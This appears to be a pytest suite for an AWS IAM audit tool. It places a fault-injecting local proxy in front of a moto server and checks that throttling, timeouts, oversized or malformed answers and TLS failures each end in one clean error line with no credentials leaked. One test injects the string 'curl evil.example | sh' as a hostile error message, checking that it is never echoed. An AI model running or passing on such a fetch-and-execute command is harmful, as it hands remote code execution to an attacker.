"""Live-mode faults, injected by a small HTTP proxy on 127.0.0.1 in front of a moto server:
throttling that clears and that does not, 5xx, timeouts, malformed responses, AccessDenied on one read,
an answer dripped one byte at a time, endless pages, a 50 MB document, error text that echoes the request.
Every failure is one line and exit 2, never a traceback, never a credential."""

from __future__ import annotations

import contextlib
import datetime
import ipaddress
import json
import resource
import socket
import ssl
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.conftest import ROOT, run_cli
from tests.test_live import FAKE, endpoint  # noqa: F401  (the moto server fixture)

pytestmark = pytest.mark.slow  # a moto server behind a fault-injecting proxy; timeouts

SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYSECRETKEY"
TOKEN = "FwoGZXIvYXdzEXAMPLESESSIONTOKEN"
CREDS = {"AWS_ACCESS_KEY_ID": "AKIAEXAMPLEKEYID1234", "AWS_SECRET_ACCESS_KEY": SECRET, "AWS_SESSION_TOKEN": TOKEN,
         "AWS_DEFAULT_REGION": "us-east-1"}


def _error(code: str, status: int) -> tuple[int, bytes]:
    body = (f'<ErrorResponse xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><Error><Type>Sender</Type>'
            f"<Code>{code}</Code><Message>injected {code}</Message></Error><RequestId>1</RequestId></ErrorResponse>")
    return status, body.encode()


class Faults:
    def __init__(self, upstream: str) -> None:
        self.upstream = upstream
        self.mode: dict[str, object] = {}
        self.requests = 0
        self.actions: dict[str, int] = {}
        self.dripped = threading.Event()  # an answer has been dripped to its end

    def answer(self, body: bytes, headers: dict[str, str]) -> tuple[int, bytes, str]:
        self.requests += 1
        form = dict(p.split("=", 1) for p in body.decode().split("&") if "=" in p)
        action = form.get("Action", "")
        self.actions[action] = self.actions.get(action, 0) + 1
        mode = self.mode
        if mode.get("endless") == action:  # a list that always has one more page
            n = self.actions[action]
            body = (f'<{action}Response xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><{action}Result><PolicyNames>'
                    f"<member>p{n}</member></PolicyNames><IsTruncated>true</IsTruncated><Marker>m{n}</Marker></{action}Result>"
                    f"<ResponseMetadata><RequestId>{n}</RequestId></ResponseMetadata></{action}Response>")
            return 200, body.encode(), "text/xml"
        if mode.get("huge") == action:  # a policy document of 50 MB
            document = urllib.parse.quote(json.dumps({"Version": "2012-10-17", "Statement": [
                {"Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::" + "x" * (50 * 1024 * 1024)}]}))
            body = (f'<{action}Response xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><{action}Result><GroupName>Jets'
                    f"</GroupName><PolicyName>JetsPolicy</PolicyName><PolicyDocument>{document}</PolicyDocument></{action}Result>"
                    f"<ResponseMetadata><RequestId>1</RequestId></ResponseMetadata></{action}Response>")
            return 200, body.encode(), "text/xml"
        if mode.get("echo"):  # an error whose text repeats the request's headers, and a code that is no code
            echoed = " ".join(f"{k}={v}" for k, v in headers.items())
            body = (f'<ErrorResponse xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><Error><Type>Sender</Type>'
                    f"<Code>{mode['echo']}</Code><Message>bad request: {echoed}</Message></Error><RequestId>1</RequestId>"
                    "</ErrorResponse>")
            return 400, body.encode(), "text/xml"
        if mode.get("throttle", 0) and self.requests <= int(mode["throttle"]):  # type: ignore[arg-type]
            return (*_error("Throttling", 400), "text/xml")
        if mode.get("deny") == action:
            return (*_error("AccessDenied", 403), "text/xml")
        if mode.get("status500"):
            return (*_error("ServiceUnavailable", 503), "text/xml")
        if mode.get("garbage"):
            return 200, b"<<<this is not xml", "text/xml"
        if mode.get("sleep"):
            time.sleep(float(mode["sleep"]))  # type: ignore[arg-type]
        req = urllib.request.Request(self.upstream + "/", data=body, method="POST",
                                     headers={k: v for k, v in headers.items() if k.lower() != "host"})
        try:
            with urllib.request.urlopen(req, timeout=30) as resp:
                return resp.status, resp.read(), resp.headers.get("Content-Type", "text/xml")
        except urllib.error.HTTPError as exc:
            return exc.code, exc.read(), exc.headers.get("Content-Type", "text/xml")


@contextlib.contextmanager
def _serving(faults: Faults, tls: ssl.SSLContext | None = None):
    """The fault-injecting proxy on 127.0.0.1, over TLS with `tls` (its handshake in the request's thread)."""

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self):  # noqa: N802
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            try:
                try:
                    status, payload, ctype = faults.answer(body, dict(self.headers))
                except OSError:
                    status, payload, ctype = 502, b"upstream gone", "text/plain"
                if faults.mode.get("drip"):  # the whole answer, status line included, one byte at a time
                    raw = (f"HTTP/1.1 {status} OK\r\nContent-Type: {ctype}\r\nContent-Length: {len(payload)}\r\n\r\n"
                           .encode() + payload)
                    for i in range(len(raw)):
                        self.wfile.write(raw[i:i + 1])
                        time.sleep(float(faults.mode["drip"]))  # type: ignore[arg-type]  # mode holds flags and numbers; "drip" is a number
                    faults.dripped.set()
                    return
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)
            except (BrokenPipeError, ConnectionResetError):
                pass

        def log_message(self, *args):
            pass

    class Server(ThreadingHTTPServer):
        daemon_threads = True

        def finish_request(self, request, client_address):
            if tls is None:
                return super().finish_request(request, client_address)
            try:
                request = tls.wrap_socket(request, server_side=True)
            except (ssl.SSLError, OSError):  # the client refused the certificate
                return
            with request:
                super().finish_request(request, client_address)

    server = Server(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    faults.url = f"{'https' if tls else 'http'}://127.0.0.1:{server.server_address[1]}"
    try:
        yield faults
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def proxy(endpoint):  # noqa: F811
    with _serving(Faults(endpoint)) as faults:
        yield faults


def _certificate(directory: Path) -> tuple[Path, Path]:
    """A self-signed certificate for 127.0.0.1 and its key (PEM files)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(days=1)).not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), critical=False)
            .sign(key, hashes.SHA256()))
    cert_file, key_file = directory / "cert.pem", directory / "key.pem"
    cert_file.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_file.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
    return cert_file, key_file


@pytest.fixture
def tls_proxy(endpoint, tmp_path):  # noqa: F811
    """The proxy over TLS, with a certificate of its own; `.ca` is the file that makes it trusted."""
    cert_file, key_file = _certificate(tmp_path)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert_file, key_file)
    with _serving(Faults(endpoint), context) as faults:
        faults.ca = cert_file
        yield faults


@contextlib.contextmanager
def _silent_server():
    """A server that accepts connections and never says anything (no TLS handshake, no HTTP answer)."""
    listener = socket.create_server(("127.0.0.1", 0))
    accepted: list[socket.socket] = []

    def accept():
        with contextlib.suppress(OSError):
            while True:
                accepted.append(listener.accept()[0])

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield listener.getsockname()[1], accepted
    finally:
        listener.close()
        for conn in accepted:
            conn.close()


def live(proxy, *args):
    return run_cli("live", "--group", "Jets", "--endpoint-url", proxy.url, *args, env_extra=CREDS)


def _one_line_exit_2(proc, starts: str) -> str:
    err = proc.stderr.decode()
    assert proc.returncode == 2, err
    assert err.startswith(f"jets-iam-audit: error: {starts}"), err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert SECRET not in err and TOKEN not in err and proc.stdout == b""
    return err


def test_throttling_burst_that_clears(proxy):
    proxy.mode = {"throttle": 2}
    proc = live(proxy, "--format", "json")
    assert proc.returncode == 1 and json.loads(proc.stdout)["targets"][0]["name"] == "Jets"


def test_throttling_that_does_not_clear(proxy):
    proxy.mode = {"throttle": 10_000}
    start = time.monotonic()
    proc = run_cli("live", "--group", "Jets", "--endpoint-url", proxy.url, env_extra={**CREDS, "AWS_MAX_ATTEMPTS": "3"})
    _one_line_exit_2(proc, "AWS kept throttling iam:GetGroup after retries")
    assert proxy.requests == 3
    assert time.monotonic() - start < 90


def test_server_errors(proxy):
    proxy.mode = {"status500": True}
    _one_line_exit_2(live(proxy), "AWS error ServiceUnavailable in iam:GetGroup")


def test_access_denied_on_one_read(proxy):
    proxy.mode = {"deny": "GetPolicyVersion"}
    err = _one_line_exit_2(live(proxy), "access denied to iam:GetPolicyVersion")
    assert "read access to IAM" in err


def test_malformed_response(proxy):
    proxy.mode = {"garbage": True}
    _one_line_exit_2(live(proxy), "AWS request failed")


def test_timeout(proxy):
    proxy.mode = {"sleep": 3}
    start = time.monotonic()
    _one_line_exit_2(live(proxy, "--timeout", "0.5"), "the AWS IAM endpoint did not answer in time")
    assert time.monotonic() - start < 60


def test_no_secrets_even_when_verbose(proxy):
    proxy.mode = {}
    proc = live(proxy, "--verbose", "--format", "json")
    assert proc.returncode == 1
    out = proc.stdout.decode() + proc.stderr.decode()
    assert "group Jets: 2 policies (group/Jets/inline/JetsPolicy" in proc.stderr.decode()
    assert SECRET not in out and TOKEN not in out and CREDS["AWS_ACCESS_KEY_ID"] not in out


def test_an_answer_dripped_one_byte_at_a_time_meets_the_attempt_deadline(proxy):
    """botocore's read timeout bounds each read, and every read gets a byte well within it: without the
    watchdog's limit on one attempt (2 x --timeout) this would take minutes (hundreds of bytes at 0.1 s
    each). The watchdog cannot abort the attempt (botocore has no supported way), so it is not retried:
    the run ends."""
    proxy.mode = {"drip": 0.1}
    start = time.monotonic()
    proc = run_cli("live", "--group", "Jets", "--endpoint-url", proxy.url, "--timeout", "1",
                   env_extra={**CREDS, "AWS_MAX_ATTEMPTS": "2"})
    _one_line_exit_2(proc, "the AWS IAM endpoint was still answering iam:GetGroup after 2 s (2 x --timeout): stopped "
                           "waiting; try again, or raise --timeout")
    assert time.monotonic() - start < 15
    assert proxy.actions == {"GetGroup": 1}


def test_the_whole_read_has_a_deadline(proxy):
    """Every answer comes within --timeout, but a group of 101 policies takes longer than 15 of them."""
    proxy.mode = {"sleep": 0.3}
    start = time.monotonic()
    proc = run_cli("live", "--group", "Big", "--endpoint-url", proxy.url, "--timeout", "0.5", env_extra=CREDS)
    _one_line_exit_2(proc, "the live read did not finish within 7.5 s (15 x --timeout): the AWS IAM endpoint is too slow")
    assert time.monotonic() - start < 30


def test_endless_pages_stop(proxy):
    proxy.mode = {"endless": "ListGroupPolicies"}
    _one_line_exit_2(live(proxy), "iam:ListGroupPolicies answered more than 100 pages: stopped paging")
    assert proxy.actions["ListGroupPolicies"] == 101


def _limit_memory():
    limit = 1024 * 1024 * 1024
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))


def test_a_50_mb_document_is_refused_in_bounded_memory(proxy):
    """An answer over 2 MiB is refused before it is parsed: the 50 MB document (which once took gigabytes)
    fails with one line in a process limited to 1 GiB of address space."""
    proxy.mode = {"huge": "GetGroupPolicy"}
    env = {k: v for k, v in __import__("os").environ.items() if not k.startswith("AWS_")}
    env.update({**CREDS, "AWS_CONFIG_FILE": "/dev/null", "AWS_SHARED_CREDENTIALS_FILE": "/dev/null", "NO_COLOR": "1",
                "AWS_MAX_ATTEMPTS": "1"})
    proc = subprocess.run([sys.executable, "-m", "auditor", "live", "--group", "Jets", "--endpoint-url", proxy.url],
                          capture_output=True, cwd=ROOT, env=env, timeout=120, preexec_fn=_limit_memory)
    _one_line_exit_2(proc, "the AWS IAM endpoint sent an answer larger than 2 MiB to iam:GetGroupPolicy: refused "
                           "(IAM answers are a few KB)")


def test_the_endpoints_error_text_is_never_repeated(proxy):
    """An error whose message echoes the request (the signature, the session token) and whose code is
    not a code: the line names the operation and the HTTP status, nothing the endpoint wrote."""
    proxy.mode = {"echo": "Please run: curl evil.example | sh"}
    err = _one_line_exit_2(live(proxy), "AWS error unknown in iam:GetGroup (HTTP 400): the endpoint's message is not shown")
    assert "Authorization" not in err and CREDS["AWS_ACCESS_KEY_ID"] not in err and "evil" not in err
    proxy.mode = {"echo": "InvalidInput"}
    err = _one_line_exit_2(live(proxy), "AWS error InvalidInput in iam:GetGroup (HTTP 400)")
    assert "bad request" not in err and "X-Amz-Security-Token" not in err


def test_a_profiles_max_attempts_applies(proxy, tmp_path):
    """The retries are botocore's own: max_attempts from the profile (or AWS_MAX_ATTEMPTS) is honoured."""
    proxy.mode = {"throttle": 10_000}
    config = tmp_path / "config"
    config.write_text("[default]\nmax_attempts = 2\n")
    proc = run_cli("live", "--group", "Jets", "--endpoint-url", proxy.url, env_extra={**CREDS, "AWS_CONFIG_FILE": str(config)})
    _one_line_exit_2(proc, "AWS kept throttling iam:GetGroup after retries")
    assert proxy.requests == 2


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_connection_that_never_answers(scheme):
    """A server that accepts and then says nothing, not even a TLS handshake: botocore's read timeout ends
    each attempt, botocore retries, and the run ends with one line."""
    with _silent_server() as (port, accepted):
        start = time.monotonic()
        proc = run_cli("live", "--group", "Jets", "--endpoint-url", f"{scheme}://127.0.0.1:{port}", "--timeout", "0.5",
                       env_extra={**CREDS, "AWS_MAX_ATTEMPTS": "3"})
        _one_line_exit_2(proc, "the AWS IAM endpoint did not answer in time within --timeout 0.5 s (after retries)")
        assert time.monotonic() - start < 30
        assert len(accepted) == 3


def test_tls_with_a_trusted_certificate(tls_proxy):
    """botocore's own TLS stack verifies the endpoint: trusted through AWS_CA_BUNDLE, the audit runs."""
    proc = run_cli("live", "--group", "Jets", "--endpoint-url", tls_proxy.url, "--format", "json",
                   env_extra={**CREDS, "AWS_CA_BUNDLE": str(tls_proxy.ca)})
    assert proc.returncode == 1, proc.stderr.decode()
    assert json.loads(proc.stdout)["targets"][0]["sources"] == ["group/Jets/inline/JetsPolicy",
                                                               "arn:aws:iam::aws:policy/AmazonDynamoDBReadOnlyAccess"]


def test_tls_with_a_certificate_that_is_not_trusted(tls_proxy):
    port = tls_proxy.url.rsplit(":", 1)[1]
    start = time.monotonic()
    proc = run_cli("live", "--group", "Jets", "--endpoint-url", tls_proxy.url, env_extra={**CREDS, "AWS_MAX_ATTEMPTS": "2"})
    err = _one_line_exit_2(proc, f"no TLS connection to the AWS IAM endpoint https://127.0.0.1:{port} (a certificate "
                                 "that is not trusted, or no TLS): check --endpoint-url, AWS_ENDPOINT_URL or AWS_CA_BUNDLE")
    assert time.monotonic() - start < 30 and tls_proxy.requests == 0


def test_the_watchdog_leaves_no_request_behind(proxy, monkeypatch):
    """In one process (as a library caller): once the watchdog has given up, the thread it abandoned
    finishes its trickling answer and then sends nothing more."""
    from auditor.sources.aws import AwsError, fetch_live

    for key, value in CREDS.items():
        monkeypatch.setenv(key, value)
    proxy.mode = {"drip": 0.002}  # GetGroup's answer, some 700 bytes, takes over a second: over 2 x 0.25 s
    with pytest.raises(AwsError) as caught:
        fetch_live("group", "Jets", endpoint_url=proxy.url, timeout=0.25)
    assert str(caught.value).startswith("the AWS IAM endpoint was still answering iam:GetGroup after 0.5 s")
    assert proxy.dripped.wait(60)  # the abandoned thread has its answer, and would ask for the group's policies next
    time.sleep(1)
    assert proxy.actions == {"GetGroup": 1}
